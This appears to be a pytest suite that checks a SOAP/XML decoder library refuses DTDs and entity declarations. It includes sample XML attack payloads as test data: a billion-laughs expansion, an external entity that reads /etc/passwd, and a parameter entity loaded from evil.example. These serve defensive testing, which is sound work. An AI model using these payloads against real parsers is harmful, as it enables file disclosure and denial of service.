"""XML safety of the SOAP decoders: DTDs and entities are refused, never resolved (spec §3.5).

Every attack is tried whole, split at every byte (the marker straddling two chunks) and one
byte at a time, through both the fast path and the full parser.
"""

from __future__ import annotations

import pytest
from codec_support import run
from hypothesis import given, settings
from hypothesis import strategies as st

from hpcsoa._exceptions import DecodeError, EncodeError, UnsafeXMLError
from hpcsoa.protocol._models import SoapResponse
from hpcsoa.protocol._soap import (
    RESPONSE_ARRAY_CLOSE,
    RESPONSE_ARRAY_OPEN,
    SoapRequestArrayDecoder,
    SoapResponseDecoder,
    encode_soap_response,
    parse_wcf_body,
    wcf_reply_body,
)
from hpcsoa.protocol._xml import check_xml_chars, find_unsafe, xml_text

S = "http://www.w3.org/2003/05/soap-envelope"
A = "http://www.w3.org/2005/08/addressing"
GOOD = encode_soap_response(
    action="urn:reply", relates_to="urn:uuid:1", body=wcf_reply_body("Echo", "hi", "urn:e")
)
EXPECTED_GOOD = SoapResponse(
    "urn:reply", "urn:uuid:1", None, None, "", wcf_reply_body("Echo", "hi", "urn:e"), "hi"
)

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b"<HPCServer2008_WebAPI_MessageArray>&lol3;</HPCServer2008_WebAPI_MessageArray>"
)
EXTERNAL_ENTITY = (
    b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    + RESPONSE_ARRAY_OPEN
    + GOOD.replace(b"urn:uuid:1", b"&xxe;")
    + RESPONSE_ARRAY_CLOSE
)
# Declarations hidden inside an envelope (where only the full parser would look).
INNER_DTD = (
    RESPONSE_ARRAY_OPEN
    + GOOD.replace(b"<s:Body>", b'<s:Body><!DOCTYPE x [<!ENTITY e "boom">]>')
    + RESPONSE_ARRAY_CLOSE
)
INNER_ENTITY = (
    RESPONSE_ARRAY_OPEN + GOOD.replace(b"hi<", b'<!ENTITY e "x"><') + RESPONSE_ARRAY_CLOSE
)
PARAMETER_ENTITY = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>'
LOWER_CASE = b"<!doctype r><r/>"
AFTER_GOOD = RESPONSE_ARRAY_OPEN + GOOD + b"<!DOCTYPE r>" + RESPONSE_ARRAY_CLOSE
ATTACKS = [
    BILLION_LAUGHS,
    EXTERNAL_ENTITY,
    INNER_DTD,
    INNER_ENTITY,
    PARAMETER_ENTITY,
    LOWER_CASE,
    AFTER_GOOD,
    b"<r><!ELEMENT r ANY></r>",
    b"<r><!ATTLIST r a CDATA #IMPLIED></r>",
    b"<r>\n<!NOTATION n SYSTEM 'x'></r>",
]
DECODERS = [SoapResponseDecoder, SoapRequestArrayDecoder]


@pytest.mark.parametrize("body", ATTACKS)
@pytest.mark.parametrize("cls", DECODERS)
@pytest.mark.parametrize("fast_path", [True, False])
def test_declarations_are_refused_whole_and_byte_by_byte(body, cls, fast_path):
    assert run(cls(fast_path=fast_path), [body])[1] is UnsafeXMLError
    one = [body[i : i + 1] for i in range(len(body))]
    assert run(cls(fast_path=fast_path), one)[1] is UnsafeXMLError


@pytest.mark.parametrize("body", [BILLION_LAUGHS, INNER_DTD, INNER_ENTITY, AFTER_GOOD])
@pytest.mark.parametrize("fast_path", [True, False])
def test_declaration_split_across_two_chunks_at_every_position(body, fast_path):
    for cut in range(len(body) + 1):
        _, error = run(SoapResponseDecoder(fast_path=fast_path), [body[:cut], body[cut:]])
        assert error is UnsafeXMLError, cut


@pytest.mark.parametrize("fast_path", [True, False])
def test_good_envelopes_before_a_declaration_are_delivered_then_refused(fast_path):
    decoder = SoapResponseDecoder(fast_path=fast_path)
    assert decoder.feed(AFTER_GOOD) == [EXPECTED_GOOD]
    with pytest.raises(UnsafeXMLError):
        decoder.close()
    with pytest.raises(UnsafeXMLError):  # and the decoder stays failed
        decoder.feed(b" ")


@given(st.binary(max_size=200), st.binary(max_size=200), st.integers(0, 1000))
@settings(max_examples=200, deadline=None)
def test_a_declaration_anywhere_is_refused(before, after, cut):
    body = before + b"<!ENTITY x 'y'>" + after
    cut %= len(body) + 1
    for cls in DECODERS:
        _, error = run(cls(), [body[:cut], body[cut:]])
        # An earlier, unrelated error may win, but the stream never succeeds.
        assert error is not None
        assert issubclass(error, DecodeError)


@pytest.mark.parametrize(
    "reference", [b"&xxe;", b"&amp", b"&#xD800;", b"&#1114112;", b"&#X41;", b"&lt"]
)
@pytest.mark.parametrize("fast_path", [True, False])
def test_unknown_or_invalid_references_are_malformed_not_resolved(reference, fast_path):
    body = RESPONSE_ARRAY_OPEN + GOOD.replace(b"urn:uuid:1", reference) + RESPONSE_ARRAY_CLOSE
    items, error = run(SoapResponseDecoder(fast_path=fast_path), [body])
    assert items == []
    assert error is DecodeError


def test_parse_wcf_body_refuses_declarations():
    with pytest.raises(UnsafeXMLError):
        parse_wcf_body('<!DOCTYPE x [<!ENTITY e "a">]><Op xmlns="urn:x"><a>&e;</a></Op>')


def test_find_unsafe():
    assert find_unsafe(b"<r/>") is None
    assert find_unsafe(b"<!-- ok --><r/>") is None
    assert find_unsafe(b"xx<!doctype r>") == (2, "DOCTYPE")
    assert find_unsafe(b"<!ATTLIST a><!ENTITY b>") == (0, "ATTLIST")


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("plain", True),
        ("tab\tnewline\ncr\r", True),
        ("ünïcödé ☃ 𝄞 \x7f \x85 \ufffd", True),
        ("nul\x00", False),
        ("bell\x07", False),
        ("vt\x0b", False),
        ("\ufffe", False),
        ("\uffff", False),
        ("\udc00", False),
    ],
)
def test_xml_character_check(value, ok):
    if ok:
        check_xml_chars(value, "field")
        assert xml_text(value, "field") is not None
    else:
        with pytest.raises(EncodeError, match="my_field"):
            check_xml_chars(value, "my_field")
        with pytest.raises(EncodeError, match="my_field"):
            xml_text(value, "my_field")


def test_xml_text_escapes():
    assert xml_text("a<b>&c", "f") == "a&lt;b&gt;&amp;c"
    assert xml_text("a\r\nb", "f") == "a&#13;\nb"
    assert xml_text("plain", "f") == "plain"
